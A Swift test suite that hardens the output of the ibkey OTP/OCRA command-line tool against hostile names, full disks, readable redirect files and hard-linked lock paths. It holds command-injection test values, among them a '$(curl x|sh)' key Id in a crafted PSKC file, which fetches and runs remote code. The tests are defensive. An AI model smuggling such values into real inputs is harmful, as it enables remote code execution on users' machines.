import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// What a name from a file, a redirect or a hard link cannot make ibkey do.
@Suite("Output hardening")
struct OutputHardeningTests {
    @Test("bash completion never offers a name the shell would expand ($(…), backquotes)")
    func completionOfHostileNames() throws {
        let s = Sandbox()
        let marker = s.path("pwned")
        let hostile = "$(touch \(marker))"
        let r = s.run(["import", "--user", hostile, "--suite", "OCRA-1:HOTP-SHA1-6:QN08"] + Fixture.kdf,
                      env: s.secrets.merging(["IBKEY_SECRET": String(repeating: "ab", count: 20)]) { $1 })
        #expect(r.status == 0, "\(r.stderr)")
        #expect(s.run(["import", "--user", "plain", "--suite", "OCRA-1:HOTP-SHA1-6:QN08"],
                      env: s.secrets.merging(["IBKEY_SECRET": String(repeating: "cd", count: 20)]) { $1 }).status == 0)
        let helper = try #require(Bundle.module.url(forResource: "bash_complete", withExtension: "sh", subdirectory: "Fixtures")).path
        let c = s.run([helper, Binary.path, "ibkey respond --user "], executable: "/bin/bash")
        #expect(c.lines == ["plain"], "\(c.stdout)")
        #expect(!FileManager.default.fileExists(atPath: marker), "completion ran a command from a user name")
    }

    @Test("export to a full disk through stdout: exit 70, not a silent success")
    func exportToFullDisk() throws {
        let s = enrolledSandbox()
        let r = s.run(["-c", "\"$0\" export --user alice > /dev/full", Binary.path],
                      env: s.secrets.merging(["IBKEY_EXPORT_PASSWORD": "long enough"]) { $1 }, executable: "/bin/sh")
        #expect(r.status == 70, "\(r.stderr)")
    }

    @Test("backup -o - and export into a file the shell made readable by others: a warning naming chmod 600")
    func redirectedReadable() throws {
        let s = enrolledSandbox()
        let env = s.secrets.merging(["IBKEY_EXPORT_PASSWORD": "long enough"]) { $1 }
        for (command, what) in [("backup -o - --kdf test", "the backup"), ("export --user alice", "the exported file")] {
            let r = s.run(["-c", "umask 022; rm -f \(s.path("out")); \"$0\" \(command) > \(s.path("out"))", Binary.path], env: env, executable: "/bin/sh")
            #expect(r.status == 0, "\(r.stderr)")
            #expect(r.stderr.contains("warning: \(what) goes to a file that other users can read (mode 644)"), "\(r.stderr)")
            let quiet = s.run(["-c", "umask 077; rm -f \(s.path("out")); \"$0\" \(command) > \(s.path("out"))", Binary.path], env: env, executable: "/bin/sh")
            #expect(quiet.status == 0 && !quiet.stderr.contains("other users can read"), "\(quiet.stderr)")
        }
    }

    @Test("a hint that repeats text from a file quotes it for the shell")
    func hintsQuoteFileText() throws {
        let s = Sandbox()
        let file = s.file("evil.pskc", """
        <KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"><KeyPackage>
        <Key Id="$(curl x|sh)" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:ocra"><AlgorithmParameters><Suite>OCRA-1:HOTP-SHA1-6:QN08</Suite></AlgorithmParameters>
        <Data><Secret><PlainValue>MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=</PlainValue></Secret></Data><UserId>\(String(repeating: "n", count: 70))</UserId></Key></KeyPackage></KeyContainer>
        """)
        let r = s.run(["import", file] + Fixture.kdf, env: s.secrets)
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.contains("hint: import it with --key-id '$(curl x|sh)' --user NAME"), "\(r.stderr)")
    }

    @Test("restore's skip advice uses a challenge each suite takes")
    func restoreAdvicePerSuite() throws {
        let s = Sandbox()
        #expect(s.run(["import", "--user", "q8", "--suite", "OCRA-1:HOTP-SHA1-8:C-QN08"] + Fixture.kdf,
                      env: s.secrets.merging(["IBKEY_SECRET": String(repeating: "ab", count: 20)]) { $1 }).status == 0)
        let backup = s.path("b")
        #expect(s.run(["backup", "-o", backup, "--kdf", "test"], env: s.secrets).status == 0)
        let fresh = Sandbox()
        let r = fresh.run(["restore", backup, "--kdf", "test"], env: ["IBKEY_RECOVERY_PIN": Fixture.recovery, "IBKEY_NEW_PIN": "6081-x"])
        #expect(r.status == 0, "\(r.stderr)")
        let advice = try #require(r.stderr.split(separator: "\n").first { $0.contains("| head -n N |") })
        let command = String(advice.dropFirst("ibkey:   ".count)).replacingOccurrences(of: "head -n N", with: "head -n 2")
        let skip = fresh.run(["-c", command], env: ["IBKEY_PIN": "6081-x", "PATH": (Binary.path as NSString).deletingLastPathComponent + ":/usr/bin:/bin"],
                             executable: "/bin/sh")
        #expect(skip.status == 0, "\(command): \(skip.stderr)")
    }

    @Test("a lock path hard-linked to another file: that file is not written")
    func lockHardLink() throws {
        let s = enrolledSandbox()
        let precious = s.file("precious.txt", "keep me\n")
        unlink(s.vault + ".lock")
        #expect(link(precious, s.vault + ".lock") == 0)
        let r = s.run(["respond", "708362"], env: s.secrets)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(String(decoding: s.bytes(precious), as: UTF8.self) == "keep me\n")
    }
}
